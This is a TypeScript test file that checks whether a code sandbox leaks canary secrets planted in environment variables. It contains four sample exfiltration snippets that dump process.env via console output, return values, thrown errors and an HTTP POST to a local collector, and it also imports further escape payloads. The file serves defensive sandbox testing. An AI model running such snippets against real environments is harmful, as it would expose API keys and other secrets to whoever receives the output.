import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { guardedFetch } from "@/lib/net";
import { escapePayloads } from "./sandbox/escapes";
import { runSandboxed } from "./sandbox";

const CANARY = `weft-canary-${Math.random().toString(36).slice(2)}`;
const seen: string[] = [];
const written: string[] = [];
let server: http.Server;
let port = 0;
const restore: Array<() => void> = [];

beforeAll(async () => {
  process.env.WEFT_X2_CANARY = CANARY;
  process.env.OPENAI_API_KEY_X2 = CANARY;
  server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString()));
    req.on("end", () => {
      seen.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      res.end("ok");
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  port = (server.address() as AddressInfo).port;
  for (const stream of [process.stdout, process.stderr]) {
    const original = stream.write.bind(stream);
    stream.write = ((chunk: string | Uint8Array, ...rest: unknown[]) => {
      written.push(String(chunk));
      return (original as (...a: unknown[]) => boolean)(chunk, ...rest);
    }) as typeof stream.write;
    restore.push(() => (stream.write = original));
  }
});
afterAll(async () => {
  for (const r of restore) r();
  delete process.env.WEFT_X2_CANARY;
  delete process.env.OPENAI_API_KEY_X2;
  await new Promise<void>((r) => server.close(() => r()));
});

const exfiltrate: Record<string, string> = {
  "env via console.log": `function run(){ console.log(JSON.stringify(typeof process !== "undefined" ? process.env : globalThis)); return "done" }`,
  "env via output": `function run(){ return { env: typeof process !== "undefined" ? process.env : null, keys: Object.getOwnPropertyNames(globalThis) } }`,
  "env via egress": `async function run(i, caps){ const env = typeof process !== "undefined" ? JSON.stringify(process.env) : "no-process"; await caps.http({ url: i.url + "?e=" + encodeURIComponent(env), method: "POST", body: env }); return "sent" }`,
  "error message carrying env": `function run(){ throw new Error(String(this.process && this.process.env)) }`,
};

test("X2: canary secrets in the server environment never appear in sandbox output, logs or egress", async () => {
  const http_ = async (a: unknown) => guardedFetch(a as { url: string }, { testOnlyAllowAddresses: ["127.0.0.1"] });
  const codes = Object.values({ ...escapePayloads, ...exfiltrate });
  const results: Awaited<ReturnType<typeof runSandboxed>>[] = [];
  for (let i = 0; i < codes.length; i += 4) {
    // Four processes at a time: keeps the machine responsive for other test files.
    results.push(
      ...(await Promise.all(
        codes.slice(i, i + 4).map((code) =>
          runSandboxed({
            code,
            input: { url: `http://127.0.0.1:${port}/collect` },
            timeoutMs: 3000,
            capabilities: { http: http_, echo: async (a) => a },
          }),
        ),
      )),
    );
  }
  expect(results.length).toBeGreaterThan(30);
  expect(seen.length).toBeGreaterThan(0); // the egress path itself worked
  const everything = JSON.stringify(results) + seen.join("\n") + written.join("");
  expect(everything).not.toContain(CANARY);
  expect(seen.join("\n")).toContain("no-process");
}, 240_000);
